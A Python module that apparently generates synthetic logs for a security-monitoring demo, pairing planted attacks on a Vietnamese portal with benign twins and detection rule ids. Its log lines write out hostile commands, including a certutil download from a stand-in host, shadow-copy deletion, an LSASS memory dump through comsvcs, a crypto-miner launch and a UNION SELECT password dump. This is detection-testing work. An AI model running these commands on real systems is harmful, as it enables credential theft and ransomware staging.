"""What is planted in the demonstration: each attack as its raw lines, a benign twin that only resembles it, and the rules that are to find it."""
from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Final

from soc.demo.formats import BROWSER, access, executed, process, security, syslog, written
from soc.demo.line import SECOND, Line

__all__ = ["PLOTS", "Plot"]

Act = Callable[[random.Random, int], Sequence[tuple[str, bytes]]]
"""(chance, time µs UTC) -> (source, raw record), five seconds apart."""

_STEP: Final = 5 * SECOND
_ROBOT: Final = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
_CMD, _SYSTEM = "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\"


@dataclass(frozen=True, slots=True)
class Plot:
    """One kind of planted attack. `rules`: ids of rules each of which is to raise an alert for it; `public`: they are SigmaHQ's.

    `verdict` is how the people of the past judged it: a disposition and their words in both languages, or nothing yet.
    """

    id: str
    title_vi: str
    title_en: str
    rules: tuple[str, ...]
    act: Act
    twin: Act
    public: bool = False
    verdict: tuple[str, str, str] | None = None

    def lines(self, seed: int, at: int) -> list[Line]:
        """The attack as it is done at `at`."""
        found = self.act(random.Random(f"{seed}/{self.id}/{at}"), at)
        return [Line(at + place * _STEP, source, raw, attack=self.id) for place, (source, raw) in enumerate(found)]

    def benign(self, seed: int, at: int) -> list[Line]:
        """Its twin as it happens at `at`."""
        found = self.twin(random.Random(f"{seed}/{self.id}/twin/{at}"), at)
        return [Line(at + place * _STEP, source, raw, twin=self.id) for place, (source, raw) in enumerate(found)]


def _attacker(chance: random.Random) -> str:
    return f"203.0.113.{chance.randrange(2, 250)}"


def _citizen(chance: random.Random) -> str:
    return f"198.51.100.{chance.randrange(2, 250)}"


def _web(client: str, at: int, *requests: tuple[str, str, int, int, str]) -> list[tuple[str, bytes]]:
    return [("demo-portal", access(at + place * _STEP, client, *each)) for place, each in enumerate(requests)]


def _webshell(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    name = f"anh-bia-{chance.randrange(100, 999)}.php"
    serial = chance.randrange(10_000, 90_000)
    begun = _web(_attacker(chance), at, ("POST", "/nop-ho-so/upload", 200, 212, BROWSER), ("GET", f"/uploads/2026/11/{name}", 200, 12, BROWSER),
                 ("POST", f"/uploads/2026/11/{name}", 200, 48, BROWSER))
    root = "/var/www/html/uploads/2026/11"
    done = [
        written(at + 3 * _STEP, serial, "www-data", "/usr/sbin/php-fpm8.2", f"{root}/{name}"),
        executed(at + 4 * _STEP, serial + 1, "www-data", "/usr/bin/dash", ["sh", "-c", "id"], root),
        executed(at + 5 * _STEP, serial + 2, "www-data", "/usr/bin/whoami", ["whoami"], root),
    ]
    return begun + [("demo-audit", raw) for raw in done]


def _upload(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _web(_citizen(chance), at, ("POST", "/nop-ho-so/upload", 200, 212, BROWSER),
                ("GET", "/uploads/2026/11/don-de-nghi.pdf", 200, 81_200, BROWSER), ("POST", "/uploads/upload.php", 200, 210, BROWSER))


def _ssh_guessed(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    client, pid = _attacker(chance), chance.randrange(3000, 9000)
    said = [f"Failed password for quantri from {client} port {41_000 + place} ssh2" for place in range(12)]
    said.append(f"Accepted password for quantri from {client} port 41990 ssh2")
    return [("demo-linux", syslog(at + place * _STEP, "sshd", pid + place, each)) for place, each in enumerate(said)]


def _ssh_mistyped(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    pid = chance.randrange(3000, 9000)
    said = ["Failed password for quantri from 10.20.1.12 port 52110 ssh2"] * 2 + ["Accepted password for quantri from 10.20.1.12 port 52110 ssh2"]
    return [("demo-linux", syslog(at + place * _STEP, "sshd", pid, each)) for place, each in enumerate(said)]


def _gambling(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    client = f"192.0.2.{chance.randrange(2, 250)}"
    return _web(client, at, ("GET", "/nh%C3%A0-c%C3%A1i-uy-t%C3%ADn-2026.html", 200, 5120, _ROBOT), ("GET", "/NHA-CAI-UY-TIN/", 200, 5120, _ROBOT))


def _news(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _web(_citizen(chance), at, ("GET", "/tin-tuc/triet-pha-duong-day-danh-bac-online-nghin-ty", 200, 8120, BROWSER),
                ("GET", "/nha-cai-uy-tin-so-1/", 404, 153, BROWSER))


def _secret(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _web(_attacker(chance), at, ("GET", "/.git/HEAD", 404, 153, "python-requests/2.32.3"),
                ("GET", "/.env", 200, 812, "python-requests/2.32.3"))


def _secret_missing(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _web(f"203.0.113.{chance.randrange(2, 250)}", at, ("GET", "/.env", 404, 153, "python-requests/2.32.3"),
                ("GET", "/.well-known/security.txt", 200, 410, BROWSER))


def _injected(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    target = "/tin-tuc.php?id=-1%20union%20all%20select%20null,null,group_concat(username,0x3a,password)%20from%20users"
    return _web(_attacker(chance), at, ("GET", "/tin-tuc.php?id=12", 200, 7120, BROWSER), ("GET", target, 200, 9211, BROWSER))


def _searched(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _web(_citizen(chance), at, ("GET", "/tim-kiem?q=credit+union+select+committee", 200, 7120, BROWSER))


def _miner(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    words = ["./kworker", "-o", f"{_attacker(chance)}:3333", "-u", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV", "-k"]
    return [("demo-audit", executed(at, chance.randrange(10_000, 90_000), "www-data", "/tmp/.x/kworker", words, "/tmp/.x"))]


def _warned(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    words = ["less", "/home/quantri/canh-bao-xmrig.txt"]
    return [("demo-audit", executed(at, chance.randrange(10_000, 90_000), "quantri", "/usr/bin/less", words, "/home/quantri"))]


def _silenced(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _sudo(at, "/usr/bin/systemctl stop rsyslog")


def _restarted(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _sudo(at, "/usr/bin/systemctl restart rsyslog")


def _sudo(at: int, command: str) -> list[tuple[str, bytes]]:
    return [("demo-linux", syslog(at, "sudo", 0, f"quantri : TTY=pts/0 ; PWD=/home/quantri ; USER=root ; COMMAND={command}"))]


def _started(chance: random.Random, at: int, image: str) -> list[tuple[str, bytes]]:
    return [("demo-windows", security(
        at, chance.randrange(10**8, 10**9), 4688, SubjectUserName="vanthu", SubjectDomainName="VHTT", NewProcessName=image,
        ParentProcessName="C:\\Windows\\explorer.exe", CommandLine=f'"{image}"'))]


def _remote_help(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _started(chance, at, "C:\\Program Files (x86)\\UltraViewer\\UltraViewer_Desktop.exe")


def _other_viewer(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _started(chance, at, "C:\\Program Files\\IrfanView\\i_view64.exe")


def _windows_guessed(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _logons(chance, at, _attacker(chance), 12)


def _windows_mistyped(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
    return _logons(chance, at, "10.30.1.15", 2)


def _logons(chance: random.Random, at: int, client: str, failures: int) -> list[tuple[str, bytes]]:
    number = chance.randrange(10**8, 10**9)
    who = {"TargetUserName": "vanthu", "TargetDomainName": "VHTT", "IpAddress": client, "LogonType": "10"}
    found = [security(at + place * _STEP, number + place, 4625, **who, Status="0xc000006d", SubStatus="0xc000006a") for place in range(failures)]
    found.append(security(at + failures * _STEP, number + failures, 4624, **who))
    return [("demo-windows", raw) for raw in found]


def _ran(image: str, line: str, original: str, user: str = "VHTT\\vanthu") -> Act:
    def act(chance: random.Random, at: int) -> list[tuple[str, bytes]]:
        return [("demo-windows", process(at, chance.randrange(10**8, 10**9), _SYSTEM + image, line, _CMD, user=user, original=original))]

    return act


PLOTS: Final = (
    Plot("webshell", "Web shell tải lên cổng thông tin rồi chạy lệnh", "A web shell is uploaded to the portal and runs commands",
         ("f0bd8242-f99c-5c5c-8f30-d3448f9dabe2", "9e164ed3-85d5-56ed-bf89-c43767bfe9b7", "0307d40e-7e95-51f4-be0c-2ca87778f4f4"),
         _webshell, _upload,
         verdict=("true_positive", "Đã gỡ tệp, vá biểu mẫu tải lên, đổi mật khẩu CSDL; báo đơn vị chủ quản.",
                  "File removed, upload form patched, database password changed; the owner was told.")),
    Plot("ssh-guessed", "Dò mật khẩu SSH rồi vào được", "An SSH password is guessed",
         ("c6bf81cb-895c-5949-a5d9-6093886b7d2e",), _ssh_guessed, _ssh_mistyped),
    Plot("gambling", "Trang cờ bạc chèn vào cổng thông tin", "Gambling pages are planted on the portal",
         ("1cb59d18-6d71-531a-bfbf-703eb8a8c12f",), _gambling, _news,
         verdict=("true_positive", "Đã xóa các trang chèn, yêu cầu công cụ tìm kiếm gỡ kết quả.",
                  "Planted pages deleted; search engines asked to drop them.")),
    Plot("secret-file", "Tệp .env bị tải về", "The portal gives away its .env",
         ("aae2ee52-c31b-50a0-b292-70474b500ebf",), _secret, _secret_missing),
    Plot("sql-injection", "Chèn SQL được trả lời", "An SQL injection is answered",
         ("c8f1137f-45f6-512e-bf1d-d079dabe4a06",), _injected, _searched,
         verdict=("undetermined", "Trang trả về không có dữ liệu; nhà thầu đang kiểm tra.", "The answer held no data; the contractor is looking.")),
    Plot("miner", "Mã đào tiền chạy bằng tài khoản web", "A miner runs as the web server's account",
         ("62c8d7eb-6105-5007-9924-206df5e10afa",), _miner, _warned),
    Plot("logging-stopped", "Dịch vụ ghi nhật ký bị dừng", "Logging is stopped",
         ("d0f013d9-a3f6-575f-88a5-665487dabc37",), _silenced, _restarted,
         verdict=("benign", "Quản trị viên thay ổ đĩa nhật ký, có phiếu thay đổi.", "The administrator changed the log disk; there is a ticket.")),
    Plot("remote-help", "UltraViewer chạy trên máy văn thư", "UltraViewer runs on a clerk's machine",
         ("7cef87d9-273a-5707-837c-c5ae04bec7f3",), _remote_help, _other_viewer,
         verdict=("false_positive", "Nhà cung cấp phần mềm kế toán hỗ trợ theo lịch hẹn.", "The accounting vendor helped, by appointment.")),
    Plot("windows-guessed", "Dò mật khẩu điều khiển từ xa rồi vào được", "A remote desktop password is guessed",
         ("6dbe0c3a-63f3-5d4b-8cb1-8a849a896ec6",), _windows_guessed, _windows_mistyped),
    Plot("certutil", "Tải tệp bằng certutil", "certutil fetches a file", ("19b08b1c-861d-4e75-a1ef-ea0c1baf202b",),
         _ran("certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/k.dat C:\\Users\\Public\\k.exe", "CertUtil.exe"),
         _ran("certutil.exe", "certutil.exe -store My", "CertUtil.exe"), public=True),
    Plot("shadow-copies", "Xóa bản sao ẩn trước khi mã hóa", "Shadow copies are deleted", ("c947b146-0abc-4c87-9c64-b17e9d7274a2",),
         _ran("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE", "VHTT\\quantri"),
         _ran("vssadmin.exe", "vssadmin.exe list writers", "VSSADMIN.EXE", "VHTT\\quantri"), public=True),
    Plot("lsass-dump", "Trích bộ nhớ LSASS bằng comsvcs", "LSASS memory is dumped through comsvcs", ("646ea171-dded-4578-8a4d-65e9822892e3",),
         _ran("rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full", "RUNDLL32.EXE",
              "VHTT\\quantri"),
         _ran("rundll32.exe", "rundll32.exe printui.dll,PrintUIEntry /il", "RUNDLL32.EXE"), public=True),
)
